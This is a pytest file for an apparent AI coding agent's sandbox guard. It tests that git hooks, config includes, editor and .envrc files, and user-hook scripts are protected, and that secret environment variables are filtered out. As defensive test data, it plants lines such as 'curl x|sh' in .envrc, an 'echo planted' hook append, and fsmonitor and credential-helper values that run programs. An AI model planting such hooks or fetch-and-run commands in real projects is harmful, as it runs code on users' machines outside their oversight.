"""The seventh hostile trial: what git, an agent, an editor or the user's own hooks run later,
however it is reached (a hooks folder in the work tree, a link, an include, a worktree, a
nested checkout, a shell string), is asked before the model writes it and read-only to its
sandboxed commands; what a sandboxed command creates there is moved out of the project.

The sandbox cases run real bubblewrap (.ci/run installs it); git is the real git."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

import app.agent.guarded as guarded
from app.agent import child_env
from app.agent.commands import run_command
from app.agent.guarded import Guard, unsafe_root
from app.agent.mcp.config import ServerSpec
from app.agent.project import open_project
from app.agent.sandbox import find
from app.agent.toolbox import ProposedCommand, Toolbox
from app.agent.trust import named_paths
from app.chat.setup import project_parts
from app.settings import load_settings

BOX = find()
needs_sandbox = pytest.mark.skipif(
    not BOX.available and not os.environ.get("CI"), reason=f"no sandbox here: {BOX.problem}"
)


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    return root


def why(root: Path, relative: str) -> str:
    return Guard(root).why((root / relative).resolve())


def sandboxed(root: Path, command: str) -> tuple[str, str]:
    """`command` run as the chat runs a sandboxed one: its output, then what after_command said."""
    toolbox = Toolbox(root, sandbox=BOX)
    where, _, asked = toolbox.command_place(ProposedCommand(command, 30))
    assert where == "sandbox" and asked is not None
    wrap = toolbox.sandbox_wrap()  # as the session makes it, just before the command runs
    ran = run_command(toolbox.root, command, 30, lambda _: None, None, toolbox.scratch, wrap)
    return ran.for_model(), toolbox.after_command(sandboxed=True)


# -- git's hooks, however git finds them ---------------------------------------------------------


def husky(root: Path) -> None:
    """What husky v9 leaves: core.hooksPath = .husky/_, whose scripts run .husky/<hook>."""
    (root / ".husky" / "_").mkdir(parents=True)
    (root / ".husky" / "_" / "h").write_text('#!/bin/sh\nsh -e "$(dirname "$(dirname "$0")")/$(basename "$0")"\n')
    (root / ".husky" / "_" / "pre-commit").write_text('#!/bin/sh\n. "$(dirname "$0")/h"\n')
    (root / ".husky" / "pre-commit").write_text("npm test\n")
    git(root, "config", "core.hooksPath", ".husky/_")


def test_huskys_hooks_beside_its_hooks_folder_are_asked_about(repo):
    husky(repo)
    assert "git runs" in why(repo, ".husky/pre-commit")
    assert why(repo, "src/app.js") == ""


@needs_sandbox
def test_a_sandboxed_command_cannot_rewrite_a_husky_hook(repo):
    husky(repo)
    said, _ = sandboxed(repo, "echo 'echo planted' >> .husky/pre-commit")
    assert "Read-only file system" in said
    assert (repo / ".husky" / "pre-commit").read_text() == "npm test\n"


def test_a_hook_that_is_a_link_guards_what_it_points_to(repo):
    (repo / "githooks").mkdir()
    (repo / "githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../githooks/pre-commit")
    assert "git runs" in why(repo, "githooks/pre-commit")
    assert repo.resolve() / "githooks" in Guard(repo).read_only()


@pytest.mark.parametrize(
    "config",
    [
        "[core] hooksPath = .hk\n",  # the section and its key on one line
        "[core]\n\thooksPath = .hk ; a comment\n",
        "[include]\n\tpath = ../hooks.cfg\n",  # from a file the config includes
    ],
)
def test_the_hooks_folder_is_where_git_itself_says(repo, config):
    (repo / "hooks.cfg").write_text("[core]\n\thooksPath = .hk\n")
    with (repo / ".git" / "config").open("a") as f:
        f.write(config)
    assert git(repo, "rev-parse", "--git-path", "hooks").strip() == ".hk"
    assert "git runs" in why(repo, ".hk/pre-commit")


def test_a_tracked_file_the_git_config_includes_is_asked_about(repo):
    """`include.path = ../.gitconfig` shares a repository's settings: core.fsmonitor there runs
    at the user's next `git status`."""
    (repo / ".gitconfig").write_text("[alias]\n\tst = status\n")
    git(repo, "config", "include.path", "../.gitconfig")
    assert "git runs" in why(repo, ".gitconfig")
    assert repo.resolve() / ".gitconfig" in Guard(repo).read_only()


def test_a_linked_worktree_and_a_nested_repository_have_their_hooks_folders_guarded(repo):
    git(repo, "config", "core.hooksPath", ".githooks")
    git(repo, "commit", "-q", "--allow-empty", "-m", "first")
    worktree = repo.parent / "wt"
    git(repo, "worktree", "add", "-q", str(worktree))
    assert (worktree / ".git").is_file()  # a `gitdir:` file: its config lies in the main repository
    assert "git runs" in why(worktree, ".githooks/pre-commit")
    nested = repo / "sub"
    nested.mkdir()
    git(nested, "init", "-q")
    git(nested, "config", "core.hooksPath", "myhooks")
    assert "git runs" in why(repo, "sub/myhooks/pre-commit")


def test_a_checkout_in_a_virtual_environment_is_read_only_to_commands(repo):
    """pip's editable installs from git land in .venv/src/NAME, each a repository."""
    checkout = repo / ".venv" / "src" / "pkg"
    checkout.mkdir(parents=True)
    git(checkout, "init", "-q")
    assert checkout.resolve() / ".git" in Guard(repo).read_only()


def test_a_walk_cut_short_keeps_the_repositories_found_before(repo, monkeypatch):
    """A command that makes more folders than the walk looks at must not hide a nested repository
    found before it: the walk is breadth first, so those folders come first."""
    (repo / "vendor" / "lib").mkdir(parents=True)
    git(repo / "vendor" / "lib", "init", "-q")
    monkeypatch.setattr(guarded, "MAX_WALK_DIRS", 50)
    guard = Guard(repo)
    nested = repo.resolve() / "vendor" / "lib" / ".git"
    assert nested in guard.read_only()
    for k in range(60):
        (repo / f"d{k:02d}").mkdir()
    guard.refresh()
    assert nested in guard.read_only()


# -- links, the user's own folders as the project ------------------------------------------------


def test_a_link_to_an_agents_or_editors_folder_guards_its_target(repo):
    (repo / "editor").mkdir()
    (repo / ".vscode").symlink_to("editor")
    (repo / "env").mkdir()
    (repo / ".envrc").symlink_to("env/envrc.sh")
    (repo / "env" / "envrc.sh").write_text("export A=1\n")
    assert why(repo, "editor/tasks.json")
    assert why(repo, "env/envrc.sh")


def test_dotfiles_linked_from_the_home_folder_are_asked_about(tmp_path, monkeypatch):
    """GNU stow's layout: ~/.bashrc is a link to ~/dotfiles/bashrc, the project."""
    home = tmp_path / "home"
    dotfiles = home / "dotfiles"
    (dotfiles / "ssh").mkdir(parents=True)
    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
    (home / ".bashrc").symlink_to(dotfiles / "bashrc")
    (home / ".ssh").symlink_to(dotfiles / "ssh")
    monkeypatch.setenv("HOME", str(home))
    git(dotfiles, "init", "-q")
    assert why(dotfiles, "bashrc")
    assert why(dotfiles, "ssh/config")
    assert why(dotfiles, "README.md") == ""


@pytest.mark.parametrize("folder", [".config/git", ".claude", ".config/dspine", ".config", ".local"])
def test_the_home_folders_own_folders_are_never_a_writable_project(tmp_path, monkeypatch, folder):
    home = tmp_path / "home"
    (home / folder).mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    assert "outside any sandbox" in unsafe_root(home / folder)


@pytest.mark.parametrize("folder", ["code/app", ".julia/dev/MyPkg", ".local/src/app"])
def test_a_project_deeper_in_a_hidden_folder_is_a_project_as_any_other(tmp_path, monkeypatch, folder):
    """Julia's packages in development live in ~/.julia/dev: projects, not settings."""
    home = tmp_path / "home"
    (home / folder).mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    assert unsafe_root(home / folder) == ""


# -- what the user's own hooks and a project's shell strings run ---------------------------------


def test_a_project_file_the_users_own_hook_runs_is_asked_about(repo, env):
    """A hook in ~/.claude/settings.json that runs "$CLAUDE_PROJECT_DIR"/scripts/fmt.sh, as
    docs/chat.md's example does: it runs after the next edit, outside the sandbox."""
    claude = Path.home() / ".claude"
    claude.mkdir()
    command = 'sh "$CLAUDE_PROJECT_DIR"/scripts/fmt.sh'
    entry = {"matcher": "Edit|Write", "hooks": [{"type": "command", "command": command}]}
    (claude / "settings.json").write_text(json.dumps({"hooks": {"PostToolUse": [entry]}}))
    (repo / "scripts").mkdir()
    (repo / "scripts" / "fmt.sh").write_text("black .\n")
    parts = project_parts(open_project(repo), load_settings(), tools=True)
    assert parts.trust is None  # the project carries nothing of its own to trust
    guard = Guard(repo)
    guard.name(parts.runs_later)
    assert "hook" in guard.why((repo / "scripts" / "fmt.sh").resolve())


@pytest.mark.parametrize(
    ("args", "env_values"),
    [
        (("-c", "source .venv/bin/activate && python tools/srv.py"), {}),
        (("server.js",), {"NODE_OPTIONS": "--require ./tools/srv.py"}),
    ],
)
def test_a_servers_shell_string_and_option_list_name_their_files(repo, args, env_values):
    (repo / "tools").mkdir()
    (repo / "tools" / "srv.py").write_text("print('serving')\n")
    spec = ServerSpec("srv", ".mcp.json", "stdio", "bash", args, env_values)
    assert "tools/srv.py" in named_paths(repo, spec)


# -- what a sandboxed command creates ------------------------------------------------------------


@needs_sandbox
def test_what_a_sandboxed_command_plants_is_moved_out_of_the_project(repo, env):
    git(repo, "config", "core.hooksPath", ".githooks")  # not made yet: nothing to bind read-only
    command = (
        "mkdir -p .vscode .githooks && echo '{}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc"
        " && echo '{}' > .mcp.json && echo 'echo hi' > .githooks/pre-commit && echo kept > notes.txt"
    )
    _, note = sandboxed(repo, command)
    for planted in (".vscode", ".envrc", ".mcp.json", ".githooks"):
        assert not os.path.lexists(repo / planted), planted
        assert planted in note
    assert (repo / "notes.txt").read_text() == "kept\n"
    folder = Path(note.split("moved them to ")[1].split(". ")[0])
    assert (folder / ".envrc").read_text() == "curl x|sh\n"  # kept, for the user to look at


@needs_sandbox
def test_a_command_that_plants_nothing_says_nothing(repo, env):
    (repo / ".envrc").write_text("export A=1\n")  # there before: read-only, not moved
    _, note = sandboxed(repo, "echo hi > notes.txt")
    assert note == ""
    assert (repo / ".envrc").exists()


# -- secrets --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "SSHPASS",
        "MYSQL_PWD",
        "BORG_PASSPHRASE",
        "BW_SESSION",
        "OP_SESSION_my",
        "GH_PAT",
        "CI_JOB_JWT",
        "NPM_CONFIG__AUTH",
    ],
)
def test_more_secret_names_stay_out_of_commands(name):
    assert name not in child_env.child_environ({name: "s3cret", "PATH": "/usr/bin"})


@pytest.mark.parametrize("name", ["PWD", "OLDPWD", "PATH", "GIT_AUTHOR_NAME", "XDG_SESSION_TYPE", "MANPATH"])
def test_ordinary_names_still_pass(name):
    assert name in child_env.child_environ({name: "x"})


# -- the review of the above: what it still let through -------------------------------------------


@needs_sandbox
def test_the_sandbox_binds_what_is_there_when_the_command_runs_not_when_it_was_asked(repo, env):
    toolbox = Toolbox(repo, sandbox=BOX)
    toolbox.guard.read_only()  # an earlier walk, before .vscode existed
    (repo / ".vscode").mkdir()  # made since (the user, or the edit tool with the user's yes)
    (repo / ".vscode" / "settings.json").write_text("{}\n")
    command = "echo '{\"tasks\": []}' > .vscode/tasks.json"
    where, _, asked = toolbox.command_place(ProposedCommand(command, 30))
    assert where == "sandbox" and asked is not None
    ran = run_command(toolbox.root, command, 30, lambda _: None, None, toolbox.scratch, toolbox.sandbox_wrap())
    assert "Read-only file system" in ran.for_model()
    assert not (repo / ".vscode" / "tasks.json").exists()


def user_hook(command: str) -> None:
    claude = Path.home() / ".claude"
    claude.mkdir(exist_ok=True)
    entry = {"matcher": "Edit|Write", "hooks": [{"type": "command", "command": command}]}
    (claude / "settings.json").write_text(json.dumps({"hooks": {"PostToolUse": [entry]}}))


def test_a_file_the_users_hook_runs_is_guarded_before_it_exists(repo, env):
    user_hook('sh "$CLAUDE_PROJECT_DIR"/scripts/fmt.sh')
    parts = project_parts(open_project(repo), load_settings(), tools=True)
    guard = Guard(repo)
    guard.name(parts.runs_later)
    assert "hook" in guard.why((repo / "scripts" / "fmt.sh").resolve())


@needs_sandbox
def test_a_sandboxed_command_that_makes_a_file_the_users_hook_runs_has_it_set_aside(repo, env):
    user_hook('sh "$CLAUDE_PROJECT_DIR"/scripts/fmt.sh')
    parts = project_parts(open_project(repo), load_settings(), tools=True)
    toolbox = Toolbox(repo, sandbox=BOX)
    toolbox.guard.name(parts.runs_later)
    command = "mkdir -p scripts && echo 'curl x | sh' > scripts/fmt.sh"
    toolbox.command_place(ProposedCommand(command, 30))
    run_command(toolbox.root, command, 30, lambda _: None, None, toolbox.scratch, toolbox.sandbox_wrap())
    note = toolbox.after_command(sandboxed=True)
    assert not (repo / "scripts").exists() and "scripts" in note


def test_what_a_git_hook_script_runs_is_guarded(repo):
    (repo / "scripts").mkdir()
    (repo / "scripts" / "check.sh").write_text("ruff check .\n")
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n# the project's checks\nexec ./scripts/check.sh\n")
    assert "git runs" in why(repo, "scripts/check.sh")
    assert why(repo, "src/app.py") == ""


@pytest.mark.parametrize(
    "config",
    [
        '[includeIf "onbranch:release/**"]\n\tpath = ../ci/release.gitconfig\n',
        "[include]\n\tpath = ../.gitconfig.local\n",
    ],
)
def test_an_include_git_does_not_read_now_is_guarded_too(repo, config):
    """One on another branch, or one whose file is not there yet: both are read later."""
    (repo / "ci").mkdir()
    (repo / "ci" / "release.gitconfig").write_text("[alias]\n\tst = status\n")
    with (repo / ".git" / "config").open("a") as f:
        f.write(config)
    named = config.split("path = ../")[1].strip()
    assert "git runs" in why(repo, named)


@needs_sandbox
def test_a_repository_a_command_makes_with_a_program_in_its_settings_is_set_aside(repo, env):
    command = (
        "git init -q plain && git init -q armed && git -C armed config core.fsmonitor 'touch /tmp/x'"
        " && mkdir -p plain/.vscode && echo '{}' > plain/.vscode/settings.json"
    )
    _, note = sandboxed(repo, command)
    assert not (repo / "armed").joinpath(".git").exists() and "armed/.git" in note
    # A new repository of its own (a clone, an init) keeps its files: said, not moved.
    assert (repo / "plain" / ".git").is_dir() and (repo / "plain" / ".vscode" / "settings.json").exists()
    assert "plain/.git" in note


def test_what_cannot_be_moved_is_said_loudly(repo, env, monkeypatch):
    import app.agent.set_aside as set_aside_module

    toolbox = Toolbox(repo)
    toolbox.guard.watch()
    (repo / ".envrc").write_text("curl x | sh\n")

    def refused(source, target):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(set_aside_module.os, "rename", refused)
    note = toolbox.after_command(sandboxed=True)
    assert "could not move it (Permission denied)" in note and ".envrc" in note


# -- a repository's settings read as git reads them, not by hand ----------------------------------


def test_a_new_repositorys_settings_that_run_a_program_are_read_as_git_reads_them(tmp_path):
    git_dir = tmp_path / ".git"
    git_dir.mkdir()
    (git_dir / "config").write_text('[diff "a]b"] textconv = cat\n')  # a "]" inside the quotes
    assert guarded.runs_programs(git_dir) == "its configuration sets diff.a]b.textconv"


def test_a_configuration_git_cannot_read_counts_as_one_that_runs_programs(tmp_path):
    git_dir = tmp_path / ".git"
    git_dir.mkdir()
    (git_dir / "config").write_text('[core\n\tfsmonitor = "x\n')
    assert "cannot read" in guarded.runs_programs(git_dir)


def test_the_hooks_folder_from_a_config_alone_stops_where_git_stops_reading(tmp_path):
    git_dir = tmp_path / ".git"
    git_dir.mkdir()
    (git_dir / "config").write_text("[core]\n\thooksPath = .hk;x\n\thooksPath = .hooks # the last wins\n")
    assert guarded.hooks_path(git_dir) == tmp_path / ".hooks"


def _new_repo(tmp_path: Path, config: str) -> Path:
    git_dir = tmp_path / "new" / ".git"
    git_dir.mkdir(parents=True)
    (git_dir / "config").write_text(config)
    return git_dir


def test_a_clones_settings_keep_the_new_repository(tmp_path):
    source = tmp_path / "source"
    source.mkdir()
    git(source, "init", "-q")
    git(source, "commit", "-q", "--allow-empty", "-m", "one")
    git(tmp_path, "clone", "-q", str(source), "clone")
    git(tmp_path / "clone", "config", "user.email", "me@example.com")
    assert guarded.runs_programs(tmp_path / "clone" / ".git") == ""


@pytest.mark.parametrize(
    "config",
    [
        '[credential "https://example.com"]\n\thelper = !touch /tmp/x\n',  # a URL's own helper
        '[gpg "ssh"]\n\tprogram = /tmp/x\n',
        '[remote "origin"]\n\turl = x\n\tuploadpack = touch /tmp/x\n',
        "[alias]\n\tst = !touch /tmp/x\n",
        '[protocol "ext"]\n\tallow = always\n',
    ],
)
def test_any_setting_not_known_to_be_plain_sets_a_new_repository_aside(tmp_path, config):
    assert "its configuration sets" in guarded.runs_programs(_new_repo(tmp_path, config))


@pytest.mark.parametrize("name", ["config.worktree", "commondir"])
def test_a_new_repository_with_another_file_git_reads_settings_from_is_set_aside(tmp_path, name):
    git_dir = _new_repo(tmp_path, "[core]\n\tbare = false\n")
    (git_dir / name).write_text("[core]\n\tfsmonitor = touch /tmp/x\n" if name == "config.worktree" else "../.c\n")
    assert name in guarded.runs_programs(git_dir)


def test_a_config_that_is_a_link_or_a_fifo_is_not_read_as_empty(tmp_path):
    git_dir = _new_repo(tmp_path, "")
    (git_dir / "config").unlink()
    (git_dir / "config").symlink_to(tmp_path / "not-yet")
    assert "cannot read" in guarded.runs_programs(git_dir)
    (git_dir / "config").unlink()
    os.mkfifo(git_dir / "config")
    assert "cannot read" in guarded.runs_programs(git_dir)


def test_a_gitdir_file_is_judged_by_the_repository_it_names(tmp_path):
    tree = tmp_path / "new"
    inner = tree / ".repo"
    inner.mkdir(parents=True)
    (inner / "config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    (tree / ".git").write_text("gitdir: .repo\n")
    assert "core.fsmonitor" in guarded.runs_programs(tree / ".git")
    (inner / "config").write_text("[core]\n\tbare = false\n")
    assert guarded.runs_programs(tree / ".git") == ""
    (tree / ".git").write_text(f"gitdir: {tmp_path / 'elsewhere'}\n")
    assert "elsewhere" in guarded.runs_programs(tree / ".git")
